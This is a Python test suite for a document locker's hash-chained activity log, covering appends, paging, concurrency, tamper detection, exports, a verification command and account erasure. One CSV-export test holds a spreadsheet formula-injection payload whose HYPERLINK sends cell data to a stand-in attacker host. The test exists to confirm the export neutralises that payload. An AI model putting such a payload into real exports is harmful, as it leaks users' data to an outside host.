"""The resident's activity log: appended, paged, exported, and its chain checked."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import multiprocessing
import os
import subprocess
import sys
import uuid
from datetime import timedelta
from multiprocessing.synchronize import Barrier
from pathlib import Path

import pytest
from tortoise import Tortoise
from tortoise.exceptions import IntegrityError
from tortoise.transactions import in_transaction

from adapters.registry import AdapterRegistry
from config.database import tortoise_config
from config.settings import Settings
from models import Account, ActivityEntry
from services.activity import (
    GENESIS_HASH,
    ActivityKind,
    ActivityLog,
    BreakReason,
    ChainBreak,
    DocumentForm,
    entry_hash,
)
from services.clock import FrozenClock
from services.closure import AccountClosure, Erasure, default_erasers
from services.documents.keys import IssuerKeyStore
from services.documents.render import DocumentRenderer
from services.errors import InvalidCursor
from services.locker import Locker
from services.objects import EncryptedObjects, MasterKey
from services.objects import LocalObjectStore as UploadStore
from services.otp import OtpService
from services.sms import MemorySmsSender
from services.storage import LocalObjectStore
from services.uploads.service import UploadService

ROOT = Path(__file__).parents[2]

IIT_MADRAS = ("in.ac.iitm", "Indian Institute of Technology Madras")
PASSPORT_PUNE = ("in.gov.passport.pune", "Regional Passport Office, Pune")
MARKSHEET = "in.gov.cbse-HSCER-202416612345"
LICENCE = "in.gov.transport-DRVLC-MH1220190012345"


@pytest.fixture
def log(clock: FrozenClock) -> ActivityLog:
    return ActivityLog(clock)


@pytest.fixture
async def meera(database: None) -> Account:
    return await Account.create(
        username="meera.krishnan", mobile="9876509876", password_hash="not-used"
    )


@pytest.fixture
async def rohan(database: None) -> Account:
    return await Account.create(
        username="rohan.deshpande", mobile="9822034567", password_hash="not-used"
    )


async def admission_check(
    log: ActivityLog, clock: FrozenClock, account: Account
) -> list[ActivityEntry]:
    """IIT Madras is granted Meera's marksheet, reads it twice, loses the consent."""

    async def under_consent(
        kind: ActivityKind,
        form: DocumentForm | None = None,
        details: dict[str, int] | None = None,
    ) -> ActivityEntry:
        return await log.append(
            account.id,
            kind,
            requester_id=IIT_MADRAS[0],
            requester_name=IIT_MADRAS[1],
            consent_id="c7b1e2f0-5d4a-4c1e-9a53-2f6d8e1b7a90",
            document_uri=None if form is None else MARKSHEET,
            form=form,
            purpose="Admission verification",
            details=details,
        )

    entries = [
        await under_consent(
            ActivityKind.CONSENT_GRANTED, details={"documents": 1, "reads_allowed": 3}
        )
    ]
    for form in (DocumentForm.METADATA, DocumentForm.PDF):
        clock.advance(93.250117)
        entries.append(await under_consent(ActivityKind.DOCUMENT_READ, form))
    clock.advance(3600)
    entries.append(await under_consent(ActivityKind.CONSENT_REVOKED))

    return entries


async def passport_check(log: ActivityLog, account: Account) -> ActivityEntry:
    requester_id, requester_name = PASSPORT_PUNE
    return await log.append(
        account.id,
        ActivityKind.DOCUMENT_READ,
        requester_id=requester_id,
        requester_name=requester_name,
        consent_id="0e9d3b8a-1f2c-4e6d-8a7b-5c4d3e2f1a0b",
        document_uri=LICENCE,
        form=DocumentForm.XML,
        purpose="Address and identity verification",
    )


# Appending and reading


async def test_entries_are_numbered_and_chained_from_the_first(
    log: ActivityLog, meera: Account, clock: FrozenClock
) -> None:
    start = clock.now()

    entries = await admission_check(log, clock, meera)

    assert [entry.seq for entry in entries] == [1, 2, 3, 4]
    assert entries[0].prev_hash == GENESIS_HASH
    assert [entry.prev_hash for entry in entries[1:]] == [
        entry.hash for entry in entries[:-1]
    ]
    stored = await ActivityEntry.get(id=entries[1].id)
    assert stored.at == start + timedelta(seconds=93, microseconds=250117)
    assert stored.kind == "document_read"
    assert stored.requester_name == "Indian Institute of Technology Madras"
    assert stored.document_uri == MARKSHEET
    assert stored.form == "metadata"
    assert stored.purpose == "Admission verification"
    assert stored.hash == entry_hash(stored) == entries[1].hash


async def test_each_residents_log_is_a_chain_of_its_own(
    log: ActivityLog, clock: FrozenClock, meera: Account, rohan: Account
) -> None:
    await admission_check(log, clock, meera)

    first = await passport_check(log, rohan)

    assert first.seq == 1
    assert first.prev_hash == GENESIS_HASH
    page = await log.entries(rohan, first=10)
    assert [entry.requester_name for entry in page.items] == [
        "Regional Passport Office, Pune"
    ]


async def test_entries_come_newest_first_a_page_at_a_time(
    log: ActivityLog, clock: FrozenClock, meera: Account
) -> None:
    await admission_check(log, clock, meera)
    await passport_check(log, meera)

    first = await log.entries(meera, first=2)
    second = await log.entries(meera, first=2, after=first.end_cursor)
    last = await log.entries(meera, first=2, after=second.end_cursor)

    assert [entry.seq for entry in first.items] == [5, 4]
    assert [entry.seq for entry in second.items] == [3, 2]
    assert [entry.seq for entry in last.items] == [1]
    assert (first.has_next_page, second.has_next_page, last.has_next_page) == (
        True,
        True,
        False,
    )
    assert first.total_count == last.total_count == 5
    assert second.end_cursor == second.cursors[-1]


async def test_a_cursor_from_another_residents_log_is_refused(
    log: ActivityLog, clock: FrozenClock, meera: Account, rohan: Account
) -> None:
    await admission_check(log, clock, meera)
    await passport_check(log, rohan)
    rohans = await log.entries(rohan, first=1)

    with pytest.raises(InvalidCursor):
        await log.entries(meera, first=2, after=rohans.end_cursor)
    with pytest.raises(InvalidCursor):
        await log.entries(meera, first=2, after="not-a-cursor")


async def test_an_append_inside_a_transaction_stands_or_falls_with_it(
    log: ActivityLog, meera: Account
) -> None:
    async def read_then_fail() -> None:
        async with in_transaction():
            await passport_check(log, meera)
            raise RuntimeError("the consent could not be stored")

    with pytest.raises(RuntimeError):
        await read_then_fail()
    async with in_transaction():
        kept = await passport_check(log, meera)

    assert kept.seq == 1
    assert await ActivityEntry.filter(account_id=meera.id).count() == 1


async def test_an_append_for_no_account_fails(log: ActivityLog, database: None) -> None:
    with pytest.raises(IntegrityError):
        await log.append(
            uuid.uuid4(),
            ActivityKind.CONSENT_DENIED,
            requester_id=IIT_MADRAS[0],
            requester_name=IIT_MADRAS[1],
        )

    assert await ActivityEntry.all().count() == 0


@pytest.mark.parametrize(
    "details", [{"fee": 12.5}, {"documents": [MARKSHEET]}, {"note": "x" * 1000}]
)
async def test_details_take_only_a_few_plain_values(
    log: ActivityLog, meera: Account, details: dict[str, object]
) -> None:
    with pytest.raises((TypeError, ValueError)):
        await log.append(
            meera.id,
            ActivityKind.CONSENT_GRANTED,
            requester_id=IIT_MADRAS[0],
            requester_name=IIT_MADRAS[1],
            details=details,  # type: ignore[arg-type]
        )

    assert await ActivityEntry.filter(account_id=meera.id).count() == 0


# Concurrency


async def test_concurrent_appends_make_one_unbroken_chain(
    log: ActivityLog, meera: Account
) -> None:
    await passport_check(log, meera)

    await asyncio.gather(*(passport_check(log, meera) for _ in range(20)))

    seqs = await ActivityEntry.filter(account_id=meera.id).order_by("seq")
    assert [entry.seq for entry in seqs] == list(range(1, 22))
    report = await log.verify_chain(meera.id)
    assert report.intact
    assert report.entries == 21


def append_from_a_process(
    database_url: str, account_id: str, barrier: Barrier, appends: int
) -> None:
    """In a child process: wait for the other, then append ``appends`` reads."""

    async def run() -> None:
        await Tortoise.init(config=tortoise_config(Settings(database_url=database_url)))
        try:
            log = ActivityLog(FrozenClock())
            barrier.wait()
            for _ in range(appends):
                await log.append(
                    uuid.UUID(account_id),
                    ActivityKind.DOCUMENT_READ,
                    requester_id=PASSPORT_PUNE[0],
                    requester_name=PASSPORT_PUNE[1],
                    document_uri=LICENCE,
                    form=DocumentForm.PDF,
                )
        finally:
            await Tortoise.close_connections()

    asyncio.run(run())


async def test_appends_from_two_processes_make_one_unbroken_chain(
    log: ActivityLog, meera: Account, database_url: str
) -> None:
    context = multiprocessing.get_context("spawn")
    barrier = context.Barrier(2)
    processes = [
        context.Process(
            target=append_from_a_process,
            args=(database_url, str(meera.id), barrier, 15),
        )
        for _ in range(2)
    ]

    for process in processes:
        process.start()
    for process in processes:
        process.join(120)

    assert [process.exitcode for process in processes] == [0, 0]
    entries = await ActivityEntry.filter(account_id=meera.id).order_by("seq")
    assert [entry.seq for entry in entries] == list(range(1, 31))
    assert (await log.verify_chain(meera.id)).intact


# Verifying the chain


async def test_an_untouched_log_verifies(
    log: ActivityLog, clock: FrozenClock, meera: Account, rohan: Account
) -> None:
    await admission_check(log, clock, meera)
    await passport_check(log, rohan)

    report = await log.verify_chain()

    assert report.intact
    assert (report.entries, report.accounts) == (5, 2)
    assert report.describe() == "activity log intact: 5 entries in 2 accounts"


async def test_a_changed_purpose_is_caught_and_named(
    log: ActivityLog, clock: FrozenClock, meera: Account, rohan: Account
) -> None:
    entries = await admission_check(log, clock, meera)
    await passport_check(log, rohan)

    await ActivityEntry.filter(id=entries[1].id).update(purpose="Scholarship audit")
    report = await log.verify_chain()

    assert not report.intact
    assert report.breaks == [
        ChainBreak(
            account_id=meera.id,
            seq=2,
            entry_id=entries[1].id,
            reason=BreakReason.HASH_MISMATCH,
            expected_seq=2,
        )
    ]


async def test_a_changed_time_is_caught(
    log: ActivityLog, clock: FrozenClock, meera: Account
) -> None:
    entries = await admission_check(log, clock, meera)

    await ActivityEntry.filter(id=entries[2].id).update(
        at=entries[2].at - timedelta(days=30)
    )
    report = await log.verify_chain(meera.id)

    (found,) = report.breaks
    assert (found.seq, found.reason) == (3, BreakReason.HASH_MISMATCH)


async def test_a_deleted_middle_entry_is_caught_as_a_gap(
    log: ActivityLog, clock: FrozenClock, meera: Account
) -> None:
    entries = await admission_check(log, clock, meera)

    await ActivityEntry.filter(id=entries[1].id).delete()
    report = await log.verify_chain(meera.id)

    (found,) = report.breaks
    assert (found.seq, found.entry_id, found.reason) == (
        3,
        entries[2].id,
        BreakReason.SEQ_GAP,
    )
    assert report.entries == 3
    assert f"entry 3 ({entries[2].id}): gap in seq (expected 2)" in report.describe()


async def test_a_rehashed_change_breaks_the_next_link(
    log: ActivityLog, clock: FrozenClock, meera: Account
) -> None:
    entries = await admission_check(log, clock, meera)
    forged = await ActivityEntry.get(id=entries[1].id)
    forged.document_uri = LICENCE
    forged.hash = entry_hash(forged)

    await forged.save()
    report = await log.verify_chain(meera.id)

    (found,) = report.breaks
    assert (found.seq, found.reason) == (3, BreakReason.PREV_HASH_MISMATCH)


# Export


def independent_hash(exported: dict[str, object]) -> str:
    """The hash as the module docstring tells an outsider to compute it."""
    record = {key: value for key, value in exported.items() if key != "hash"}
    text = json.dumps(record, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return hashlib.sha256(f"openlocker-activity-v1\n{text}".encode()).hexdigest()


async def test_the_json_export_can_be_verified_without_the_locker(
    log: ActivityLog, meera: Account, clock: FrozenClock
) -> None:
    start = clock.now()
    entries = await admission_check(log, clock, meera)

    exported = json.loads(await log.export_json(meera))

    assert exported["account_id"] == str(meera.id)
    assert exported["hash_scheme"] == "openlocker-activity-v1"
    rows = exported["entries"]
    assert [row["seq"] for row in rows] == [1, 2, 3, 4]
    assert rows[0]["at"] == start.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    assert rows[0]["details"] == {"documents": 1, "reads_allowed": 3}
    assert rows[2]["form"] == "pdf"
    assert [independent_hash(row) for row in rows] == [entry.hash for entry in entries]
    assert [row["hash"] for row in rows] == [entry.hash for entry in entries]


async def test_the_csv_export_reads_back_with_a_header(
    log: ActivityLog, clock: FrozenClock, meera: Account
) -> None:
    entries = await admission_check(log, clock, meera)

    rows = list(csv.DictReader(io.StringIO(await log.export_csv(meera))))

    assert [row["seq"] for row in rows] == ["1", "2", "3", "4"]
    assert rows[1]["requester_name"] == "Indian Institute of Technology Madras"
    assert rows[1]["document_uri"] == MARKSHEET
    assert rows[1]["purpose"] == "Admission verification"
    assert rows[0]["document_uri"] == ""
    assert json.loads(rows[0]["details"]) == {"documents": 1, "reads_allowed": 3}
    assert [row["hash"] for row in rows] == [entry.hash for entry in entries]


async def test_the_csv_export_cannot_smuggle_a_spreadsheet_formula(
    log: ActivityLog, meera: Account
) -> None:
    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Click to verify")'
    await log.append(
        meera.id,
        ActivityKind.CONSENT_DENIED,
        requester_id="@evil",
        requester_name=hostile,
        purpose="+91 98765 09876",
    )

    (row,) = list(csv.DictReader(io.StringIO(await log.export_csv(meera))))

    assert row["requester_name"] == "'" + hostile
    assert row["requester_id"] == "'@evil"
    assert row["purpose"] == "'+91 98765 09876"
    exported = json.loads(await log.export_json(meera))
    assert exported["entries"][0]["requester_name"] == hostile


# The operator's command


def verify_activity_command(database_url: str, data_dir: Path) -> tuple[int, str]:
    """``python -m cli verify-activity`` in its own process: status and output."""
    environment = {
        **os.environ,
        "DATABASE_URL": database_url,
        "LOCKER_DATA_DIR": str(data_dir),
    }
    finished = subprocess.run(
        [sys.executable, "-m", "cli", "verify-activity"],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )

    return finished.returncode, finished.stdout


async def test_the_command_says_an_intact_log_is_intact(
    log: ActivityLog,
    clock: FrozenClock,
    meera: Account,
    rohan: Account,
    database_url: str,
    tmp_path: Path,
) -> None:
    await admission_check(log, clock, meera)
    await passport_check(log, rohan)

    status, output = verify_activity_command(database_url, tmp_path)

    assert status == 0
    assert output == "activity log intact: 5 entries in 2 accounts\n"


async def test_the_command_names_the_first_broken_entry_and_fails(
    log: ActivityLog,
    clock: FrozenClock,
    meera: Account,
    rohan: Account,
    database_url: str,
    tmp_path: Path,
) -> None:
    entries = await admission_check(log, clock, meera)
    await passport_check(log, rohan)
    await ActivityEntry.filter(id=entries[1].id).update(purpose="Scholarship audit")
    await ActivityEntry.filter(id=entries[2].id).update(purpose="Scholarship audit")

    status, output = verify_activity_command(database_url, tmp_path)

    assert status == 1
    assert output.splitlines() == [
        "activity log BROKEN (5 entries in 2 accounts checked):",
        f"  account {meera.id}: entry 2 ({entries[1].id}): hash mismatch",
    ]


# Closing the account


async def test_closing_the_account_erases_its_log(
    log: ActivityLog,
    meera: Account,
    rohan: Account,
    settings: Settings,
    otp_service: OtpService,
    sms: MemorySmsSender,
    clock: FrozenClock,
    keys_dir: Path,
    tmp_path: Path,
) -> None:
    await admission_check(log, clock, meera)
    await passport_check(log, rohan)
    registry = AdapterRegistry.discover()
    locker = Locker(
        registry,
        DocumentRenderer(IssuerKeyStore(keys_dir, generate=True)),
        LocalObjectStore(tmp_path / "objects"),
        cache_seconds=3600,
        clock=clock,
    )
    uploads = UploadService(
        settings,
        EncryptedObjects(UploadStore(tmp_path / "objects"), MasterKey.generate()),
        registry,
        clock,
    )
    counted: dict[str, int] = {}

    async def count_erased(erasure: Erasure) -> None:
        counted.update(erasure.deleted)

    closure = AccountClosure(
        otp_service,
        sms,
        clock,
        erasers=[*default_erasers(locker, uploads), count_erased],
    )

    challenge = await closure.start(meera)
    await closure.confirm(meera, challenge.id, sms.last_otp(meera.mobile))

    assert counted["activity_entries"] == 4
    assert not await ActivityEntry.exists(account_id=meera.id)
    assert await ActivityEntry.filter(account_id=rohan.id).count() == 1
    assert (await log.verify_chain()).intact
